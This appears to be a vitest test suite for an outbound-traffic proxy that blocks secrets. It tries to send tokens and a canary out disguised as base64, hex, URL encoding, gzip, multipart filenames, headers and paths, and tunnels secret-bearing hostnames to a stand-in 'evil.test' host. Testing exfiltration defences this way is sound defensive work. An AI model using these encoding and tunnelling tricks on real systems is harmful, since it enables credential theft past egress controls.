import { randomBytes } from 'node:crypto'
import { gzipSync } from 'node:zlib'
import { beforeAll, describe, expect, test } from 'vitest'
import type { Act } from '../guest.ts'
import { route } from '../route.ts'
import { NAMES, type SceneOf, TOKENS } from '../scene.ts'

const GITHUB = `ghp_${randomBytes(18).toString('hex')}`
const base64 = (text: string) => Buffer.from(text).toString('base64')
const DISGUISES: readonly ((value: string) => string)[] = [
  (value) => value,
  (value) => JSON.stringify({ a: [value] }),
  base64,
  (value) => Buffer.from(`x${value}`).toString('base64url'),
  (value) => base64(base64(value)),
  (value) => [...value].map((char) => `%${char.charCodeAt(0).toString(16)}`).join(''),
  (value) => Buffer.from(value).toString('hex'),
]
const multipart = (value: string) =>
  `--b\r\nContent-Disposition: form-data; name="f"; filename="${value}"\r\n\r\nhello\r\n--b--\r\n`

/** Rows 35 and 36: what is known to be secret, or looks like it, is stopped however it is written. */
export function outboundScan(scene: SceneOf): void {
  const bottle = () => scene().bottle
  let canary: string
  beforeAll(async () => {
    canary = await bottle().canary()
    const ports = [bottle().around.origin.port]
    const outbound = ['token_patterns', 'known_secrets'] as ('token_patterns' | 'known_secrets')[]
    const auth = { scheme: 'Bearer', header: 'authorization', slot: 'API' } as const
    const scanned = route('origin.test', { ports, auth, scan: { outbound, inbound: false, onMatch: 'block' } })
    const narrow = [{ paths: [{ type: 'exact' as const, value: '/v1' }] }]
    await bottle().routes([scanned, route('narrow.test', { ports, matches: narrow })], NAMES)
  })
  const post = (body: string, headers: string[] = []) => bottle().request('origin.test', 'POST /', headers, body)
  const get = (target: string, headers: string[] = []) => bottle().request('origin.test', `GET ${target}`, headers)

  describe.each<[name: string, value: () => string]>([
    ['a token of the bottle', () => TOKENS.API],
    ['a secret of another route', () => TOKENS.OTHER],
    ['the canary', () => canary],
    ['a token known by its shape', () => GITHUB],
  ])('35 %s does not leave', (_, value) => {
    const all = () => DISGUISES.map((of) => of(value()))
    async function stopped(list: readonly Act[]) {
      const { replies, arrived, audit } = await bottle().attack(list)
      expect(arrived.map(({ url, body }) => `${url} ${body}`)).toEqual([])
      expect(replies.map((reply) => /^HTTP\/1.1 403 .*secret-outbound/s.test(reply))).toEqual(list.map(() => true))
      expect(audit.map(({ rule }) => rule)).toEqual(list.map(() => 'secret-outbound'))
      expect(JSON.stringify(audit)).not.toContain(value())
    }
    test('in a body, however it is written', () =>
      stopped([
        ...all().map((text) => post(`note=${text}&z=1`)),
        post(multipart(value()), ['Content-Type: multipart/form-data; boundary=b']),
        post(gzipSync(value()).toString('latin1'), ['Content-Encoding: gzip']),
      ]))
    test('in a path or a query', () =>
      stopped([...all().map((text) => get(`/?q=${encodeURIComponent(text)}`)), get(`/x/${value()}/y`)]))
    test('in a header, by value or by name', () =>
      stopped([...all().map((text) => get('/', [`X-Note: ${text}`])), get('/', [`X-${value()}: 1`])]))
  })

  test('35 a secret in the name of a host is refused, and told without it', async () => {
    const names = [TOKENS.OTHER.toLowerCase(), Buffer.from(TOKENS.OTHER).toString('hex')]
    const { audit } = await bottle().attack([
      ...names.map((name): Act => ({ kind: 'tunnel', to: `${name.slice(0, 60)}.evil.test:443`, send: '' })),
      bottle().request('narrow.test', `POST /x/${TOKENS.API}`),
    ])
    expect(audit.map(({ rule }) => rule).sort()).toEqual(['no-match', 'not-listed', 'not-listed'])
  })
  test('35 what only looks like a secret does leave', async () => {
    const innocent = ['real-estate s3cr3t ghp_ bbk_ sk-ant- AKIA', randomBytes(600).toString('base64')]
    const { replies, arrived } = await bottle().attack([
      ...innocent.map((text) => post(text)),
      post(multipart('notes.txt'), ['Content-Type: multipart/form-data; boundary=b']),
      post(gzipSync('hello').toString('latin1'), ['Content-Encoding: gzip']),
      get('/x/y?q=hello', ['X-Note: hello']),
    ])
    expect(replies.map((reply) => reply.slice(9, 12))).toEqual(['200', '200', '200', '200', '200'])
    expect(arrived).toHaveLength(5)
  })
  test('36 a piece of twelve characters is enough; less than that is known not to be seen', async () => {
    const pieces = [canary.slice(6, 20), canary.slice(18, 34), canary.slice(6, 14)]
    const { replies } = await bottle().attack(pieces.map((piece) => post(`part=${piece}`)))
    expect(replies.map((reply) => reply.slice(9, 12))).toEqual(['403', '403', '200'])
  })
}
